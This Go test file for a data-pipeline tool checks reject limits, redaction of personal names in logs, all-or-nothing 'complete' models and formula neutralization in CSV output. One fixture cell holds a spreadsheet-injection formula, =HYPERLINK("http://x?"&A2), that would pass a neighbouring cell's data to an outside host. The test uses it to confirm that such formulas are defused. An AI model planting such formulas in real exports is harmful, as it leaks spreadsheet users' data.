package main

import (
	"encoding/csv"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"martlet/internal/scratch"
)

// members is a project that can live with some rejects, in all but its consents.
const members = `
name = "members"

[[source]]
name = "member"
workbook = "raw_data/club.xlsx"
description = "Members of a club."
grain = ["id"]
max_rejects = "25%"
columns = [
  { name = "id", type = "int64", nullable = false, description = "Which." },
  { name = "name", type = "string", pii = true, description = "As typed." },
  { name = "joined", type = "date", description = "When." },
]

[[source]]
name = "consent"
seed = "extracts/consent_*.csv"
description = "What members agreed to."
max_rejects = 1
columns = [
  { name = "id", type = "int64", description = "Who." },
  { name = "agreed", type = "bool", pii = true, description = "Whether." },
]

[[model]]
name = "roll"
description = "All members."
from = "member"
grain = ["id"]
output = { neutralize_formulas = true }
columns = [
  { name = "id", description = "Which." },
  { name = "name", description = "As typed." },
  { name = "year", expr = "extract(year from joined)", description = "Of joining." },
]

[[model]]
name = "mailing"
description = "Who may be written to."
from = "consent"
dedupe = { key = ["id"] }
where = "agreed"
output = { formats = ["csv"] }
complete = COMPLETE
columns = [{ name = "id", description = "Who." }]
`

// clubSite is a folder with the inputs of members: a workbook of four members, of
// whom the last joined on the date given, and consents in two extracts.
func clubSite(t *testing.T, fourth string) *site {
	t.Helper()
	s := &site{t, t.TempDir()}
	if err := os.Mkdir(s.path("raw_data"), 0o755); err != nil {
		t.Fatal(err)
	}
	book := excelize.NewFile()
	defer book.Close()
	if err := book.SetSheetName("Sheet1", "member"); err != nil {
		t.Fatal(err)
	}
	for i, row := range [][]any{{"id", "name", "joined"}, {1, "Ann", "2020-01-02"}, {2, `=HYPERLINK("http://x?"&A2)`, "2021-01-02"}, {3, "@home", "2022-01-02"}, {4, "Zoë", fourth}} {
		for j, value := range row {
			if text, ok := value.(string); ok {
				if err := book.SetCellStr("member", fmt.Sprintf("%c%d", 'A'+j, i+1), text); err != nil {
					t.Fatal(err)
				}
				continue
			}
			if err := book.SetCellValue("member", fmt.Sprintf("%c%d", 'A'+j, i+1), value); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := book.SaveAs(s.path("raw_data/club.xlsx")); err != nil {
		t.Fatal(err)
	}
	s.write("extracts/consent_1.csv", "id,agreed\n1,yes\n2,no\n")
	s.write("extracts/consent_2.csv", "id,agreed\n2,yes\n")
	return s
}

func TestRejectsThatARunCanLiveWith(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles a project")
	}
	program := scratch.Compile(t, map[string]string{
		"lenient": strings.Replace(members, "COMPLETE", "false", 1),
		"strict":  strings.Replace(members, "COMPLETE", "true", 1),
	})
	build := func(s *site, project string, args ...string) outcome {
		got := program.Run(t, project, append([]string{"--root", s.root, "--as-of", asOf}, args...)...)
		return outcome{got.Exit, got.Stdout, got.Stderr}
	}
	const roll = "id,name,year\n1,Ann,2020\n2,\"'=HYPERLINK(\"\"http://x?\"\"&A2)\",2021\n3,'@home,2022\n"

	// One member of four is a quarter, which is allowed.
	s := clubSite(t, "a Tuesday")
	got := build(s, "strict")
	s.expect(got, 0, "\n1 record rejected, 1 bad cell:\n  seeds/member.csv:5 (raw_data/club.xlsx!member!C5): column joined: found a Tuesday, expected a date",
		"WARN  member: 1 record rejected of 4, allowed 25%\n", "\nDone. ", "; 1 record rejected, 1 bad cell. 3 files published",
		"/roll.csv  ", ", 2 cells neutralized\n")
	if got := s.read("out/roll.csv"); got != roll {
		t.Errorf("got\n%swant\n%s", got, roll)
	}
	if said := got.stdout + got.stderr + s.read("target/run_results.json"); strings.Contains(said, "Zoë") {
		t.Errorf("a name is shown:\n%s", said)
	}
	if got := s.read("seeds/member.csv"); !strings.Contains(got, "\n3,@home,") {
		t.Errorf("the seed was touched:\n%s", got)
	}
	records, err := csv.NewReader(strings.NewReader(s.read("target/rejects/member.csv"))).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("%q, %v", records, err)
	}
	if got := strings.Join(records[1], "|"); !strings.HasPrefix(got, "raw_data/club.xlsx!member!C5|joined|expected a date") || !strings.HasSuffix(got, "|4|Zoë|a Tuesday|4,Zoë,a Tuesday") {
		t.Errorf("rejects have %s", got)
	}
	if !strings.Contains(s.read("target/run_results.json"), `"message": "1 record rejected of 4, allowed 25%"`) {
		t.Errorf("results are\n%s", s.read("target/run_results.json"))
	}
	good := s.tree("out")

	// A consent that cannot be read: its source allows it, the mailing does not.
	s.write("extracts/consent_2.csv", "id,agreed\n2,perhaps\n")
	s.expect(build(s, "strict"), 1, "extracts/consent_2.csv:2: column agreed: found <redacted>, expected a boolean",
		"WARN  consent: 1 record rejected of 3, allowed 1\n",
		"ERROR mailing: the model is complete, which allows no reject in what it rests on: 1 record rejected of consent\n", "are untouched")
	if now := s.tree("out"); now["current"] != good["current"] {
		t.Error("it was published")
	}
	for _, threads := range []string{"1", "2"} {
		s.expect(build(s, "lenient", "--threads", threads), 0, "WARN  consent: 1 record rejected of 3, allowed 1\n", "3 files published")
		if got := s.read("out/mailing.csv"); got != "id\n1\n" {
			t.Errorf("%s threads: mailing is %q", threads, got)
		}
	}
	good = s.tree("out")

	// One more is too many, for either.
	s.write("extracts/consent_1.csv", "id,agreed\n1,yes\n2\n")
	s.expect(build(s, "lenient"), 1, "3 records rejected, 2 bad cells", "extracts/consent_1.csv:3: found 1 field; expected 2",
		"ERROR consent: 2 records rejected of 3, allowed 1\n", "WARN  member: 1 record")
	if now := s.tree("out"); now["current"] != good["current"] {
		t.Error("it was published")
	}
}

// The mart of the sample is complete: consent never rests on a table that was
// read in part.
func TestMartIsComplete(t *testing.T) {
	s := sampleSite(t)
	s.setCells(map[string]any{"user_marketing_preferences!B2": "perhaps"})
	s.expect(s.build(), 1, "ERROR user_marketing_preferences: 1 record rejected of 967, none allowed\n",
		"ERROR mart_users_marketing: the model is complete, which allows no reject in what it rests on: 1 record rejected of user_marketing_preferences\n")
}
